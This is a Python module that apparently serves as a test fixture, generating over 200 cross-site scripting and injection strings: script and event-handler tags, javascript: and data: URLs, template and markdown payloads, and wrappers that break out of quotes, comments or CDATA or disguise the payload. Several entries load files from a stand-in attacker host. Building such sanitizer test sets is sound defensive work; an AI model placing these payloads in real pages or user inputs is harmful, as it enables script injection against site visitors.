"""Texts that would run as scripts, load something or make an element if a page took them for more than text."""

# ruff: noqa: E501 - texts of attackers

import re
from collections.abc import Callable
from html import escape
from urllib.parse import quote

__all__ = ["LIVE", "SCRIPTS", "alive"]

_EVIL = "https://evil.example/x"

_MARKUP = (
    "<script>alert(1)</script>",
    f"<script src={_EVIL}.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src={_EVIL}.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    f"<style>@import '{_EVIL}.css';</style>",
    f"<p style='background:url({_EVIL}.png)'>x</p>",
    f"<link rel=stylesheet href={_EVIL}.css>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}><button formaction=javascript:alert(1)>x</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
)
"""Elements: each makes one, and most of them act at once."""

_WORDS = (
    '";alert(1)//',
    "'-alert(1)-'",
    "\\';alert(1)//",
    "`${alert(1)}`",
    "${alert(1)}{{7*7}}{% raw %}{#",
    "{{constructor.constructor('alert(1)')()}}",
    "[x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    f"<{_EVIL}>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus='alert(1)",
)
"""What acts within a script, a template, markdown, an address or a tag."""


def _mixed(text: str) -> str:
    """Write the names of tags and attributes in letters of both sizes."""

    def mix(name: re.Match[str]) -> str:
        return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(name.group()))

    return re.sub(r"</?[a-z]+|\bon[a-z]+|javascript", mix, text)


_FRAMES: tuple[Callable[[str], str], ...] = (
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"`>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"</title></style></textarea></select>{text}",
    lambda text: f"-->{text}<!--",
    lambda text: f"]]>{text}<![CDATA[",
    _mixed,
    escape,
    quote,
    lambda text: text.replace("<", "\\u003c").replace("'", "\\x27"),
    lambda text: text[:4] + "\x00" + text[4:] + "\x1b[2J",
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"# x\n\n- 1. {text}\n\n    {text}\n***\n```\n{text}",
)
"""What breaks out of where a text stands, or hides it: each wraps a text."""


def _made() -> tuple[str, ...]:
    """Give each vector bare and in every other frame, the odd ones and the even ones by turns."""
    made: list[str] = []
    for place, vector in enumerate((*_MARKUP, *_WORDS)):
        made.append(vector)
        made += [frame(vector) for frame in _FRAMES[place % 2 :: 2]]
    return tuple(dict.fromkeys(made))


SCRIPTS = _made()
"""More than 200 texts, each of them once."""

LIVE = _MARKUP
"""Those of which a page that takes them for HTML has an element more."""


def alive(text: str) -> bool:
    """Tell whether a study file may hold a text: only printable letters, tabs and new lines."""
    return all(letter.isprintable() or letter in "\n\t" for letter in text)
